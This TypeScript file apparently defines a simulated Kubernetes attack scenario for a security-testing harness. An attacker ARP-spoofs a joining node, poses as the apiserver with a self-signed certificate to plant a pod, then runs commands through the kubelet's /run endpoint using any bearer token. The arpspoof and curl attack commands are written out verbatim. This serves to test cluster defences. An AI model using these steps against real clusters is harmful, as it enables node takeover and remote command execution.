import { Attacker } from '../../attacker/attacker';
import { neighbour } from '../../attacker/position';
import { MidplaneError } from '../../error';
import { type Kubelet, startKubelet } from '../../kubelet/kubelet';
import { parseKubeletConfiguration } from '../../kubelet/kubelet-configuration';
import { timeLimit } from '../../network/time-limit';
import { selfSignedKubeletServing } from '../../pki/kubelet-serving';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import type { Cluster } from '../cluster';
import type { Stage } from '../scenarios/stage';
import { Witness } from '../witness';
import { curl } from './curl';
import { playOf } from './play';
import { outputOf } from './pod-output';

const ANSWERED_WITHIN_MS = 30_000;

export const fakeApiserver = playOf({
  steps: [
    'attacker: arpspoof -t node-3 10.0.0.10',
    'attacker: reads the handshake',
    'attacker: answers node-3 as the apiserver, with pod/NAME for it',
    'attacker: curl -k -XPOST -H "Authorization: Bearer whatever" "https://node-3:10250/run/…?cmd=hostname"',
  ],
  async play(stage) {
    const cluster = await stage.cluster();
    const { attackerHost, newNode } = cluster;
    const { forged, tampered } = randomCanaries(stage.random);
    const target = { address: addresses.controlPlane, port: ports.apiserver };
    const position = neighbour(newNode, attackerHost, target.address);
    await using attack = await new Attacker({
      host: attackerHost,
      random: stage.random.for('attacker'),
    }).attack({
      technique: 'self-signed',
      targets: [target],
      position,
      present: null,
      mode: 'impersonate',
      forged,
      tampered,
    });
    await stage.did('attacker', `arpspoof -t ${newNode.name} ${target.address}`, position.describe());

    const { kubelet, failure } = await startVictim(stage, cluster);
    const serve = `answers ${newNode.name} as the apiserver, with pod/${forged} for it`;
    const shown = attack.loot.handshakes.find((it) => it.clientCertificate !== null)?.clientCertificate;
    if (shown) await stage.did('attacker', 'reads the handshake', `${shown.subject}, without its key`);
    const output = kubelet === null ? '' : await outputOf(kubelet, forged, 'forged', stage.signal);
    if (output.includes(forged)) {
      await stage.gained(
        'attacker',
        serve,
        `crictl logs on ${newNode.name}: ${output}`,
        'a pod of its choice on the node',
      );
    } else await stage.refused('attacker', serve, failure);

    const kubeletAt = `https://${addresses.node3}:${ports.kubelet}`;
    const run = await curl(attackerHost, `${kubeletAt}/run/default/${forged}/forged?cmd=hostname`, {
      method: 'POST',
      token: 'whatever',
      signal: stage.signal,
    });
    const knock = `curl -k -XPOST -H "Authorization: Bearer whatever" "https://${newNode.name}:10250/run/…?cmd=hostname"`;
    if (run.body.includes(forged)) {
      await stage.gained(
        'attacker',
        knock,
        run.body.trim(),
        'a kubelet that runs commands for whoever shows any token',
      );
    } else await stage.refused('attacker', knock, run.words);
  },
});

/** A kubelet that joins with a certificate of its own, until its node is registered or it was not believed. */
async function startVictim(
  stage: Stage,
  cluster: Cluster,
): Promise<{ readonly kubelet: Kubelet | null; readonly failure: string }> {
  const { newNode: host, pki } = cluster;
  const server = { host: addresses.controlPlane, port: ports.apiserver };
  const witness = new Witness(server, null);
  const stop = new AbortController();
  const configuration = {
    apiVersion: 'kubelet.config.k8s.io/v1beta1',
    kind: 'KubeletConfiguration',
    address: addresses.node3,
    healthzPort: 0,
    authentication: { x509: { clientCAFile: '/etc/kubernetes/pki/ca.crt' } },
  };
  const random = cluster.randomFor(`kubelet on ${host.name}`);
  const starting = startKubelet({
    host,
    nodeName: host.name,
    config: parseKubeletConfiguration(JSON.stringify(configuration), 'KubeletConfiguration'),
    apiserver: {
      server,
      trust: cluster.clientTrust(server.host),
      clientCertificate: await cluster.credentials.kubelet(host.name),
      observer: witness,
    },
    sandbox: { attachPod: async () => host },
    servingKeyPair: await selfSignedKubeletServing(host.name, { random: random.for('serving') }),
    clientCaPem: pki.caPem,
    log: stage.log,
    random,
    signal: stop.signal,
    // It tries for as long as the scenario lasts.
    readyWithinMs: null,
  });
  stage.closeLater({
    close: async () => {
      stop.abort();
      // It rejects when it was told to stop before it was ready.
      await starting.then(
        (kubelet) => kubelet.close(),
        () => undefined,
      );
    },
  });
  const kubelet = await Promise.race([
    starting,
    witness.settled.then(() => null),
    overdue(host.name, stage.signal),
  ]);
  return { kubelet, failure: witness.outcome().words };
}

async function overdue(node: string, signal: AbortSignal): Promise<never> {
  const limit = timeLimit(ANSWERED_WITHIN_MS, signal);
  await new Promise((ended) => limit.addEventListener('abort', ended, { once: true }));
  signal.throwIfAborted();
  throw new MidplaneError('TIME_LIMIT', `${node} had no answer within ${ANSWERED_WITHIN_MS / 1000} s`, {
    hint: 'it was to be answered by the attacker, or to refuse it',
  });
}
